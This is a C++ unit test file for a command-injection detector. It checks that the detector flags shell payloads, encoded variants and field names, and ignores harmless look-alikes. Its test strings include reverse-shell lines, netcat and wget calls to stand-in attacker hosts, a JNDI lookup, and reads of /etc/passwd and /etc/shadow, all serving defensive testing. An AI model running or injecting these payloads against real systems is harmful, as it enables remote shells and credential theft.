#include "detector_test_support.hpp"

namespace sentinel::security {
namespace {

using testing::expect_fires_on_messages;
using testing::expect_quiet_on_messages;
using testing::run;

TEST(CommandInjection, FiresOnShellPayloads) {
    expect_fires_on_messages(detect_command_injection,
                             {"host=127.0.0.1; cat /etc/passwd", "ip=1.1.1.1 | nc 10.0.0.5 4444", "name=$(whoami)",
                              "file=`id`", "x=1 && wget http://evil.example/x.sh", "cmd=/bin/sh -c 'id'", "q=a;id",
                              "q=a||uname -a", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "x=1; /bin/busybox telnetd",
                              "ua=${jndi:ldap://evil.example/a}", "x=| powershell -enc SQBFAFgA",
                              "x=a & ping -n 30 127.0.0.1", "x=1;ls -la /"});
}

TEST(CommandInjection, SeesThroughEncodingAndCase) {
    expect_fires_on_messages(detect_command_injection,
                             {"host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", "host=127.0.0.1%0aid", "x=%24%28WHOAMI%29",
                              "q=1 %26%26 CURL http://x", "x=%60id%60"});
}

TEST(CommandInjection, ScoresNinetyAndNamesTheField) {
    const auto finding = run(detect_command_injection, "ok", {{"query", "host=8.8.8.8;cat /etc/shadow"}});
    ASSERT_TRUE(finding.has_value());
    EXPECT_EQ(finding->detector, "command_injection");
    EXPECT_EQ(finding->score, 90);
    EXPECT_NE(finding->summary.find("query"), std::string::npos) << finding->summary;
}

TEST(CommandInjection, QuietOnBenignLookAlikes) {
    expect_quiet_on_messages(
        detect_command_injection,
        {"Uploaded cat.jpg", "Bought supplies; cat food and litter", "Name & ID required", "GET /search?a=1&id=5&cat=3",
         "Tom & Jerry | season 2", "price: $(10)", "catalog updated; listing refreshed", "GET /shop?lang=php&sh=1",
         "ssh -c aes256 user@host", "echo chamber discussed", "status | ok", "total $5 & tax", ""});
}

} // namespace
} // namespace sentinel::security
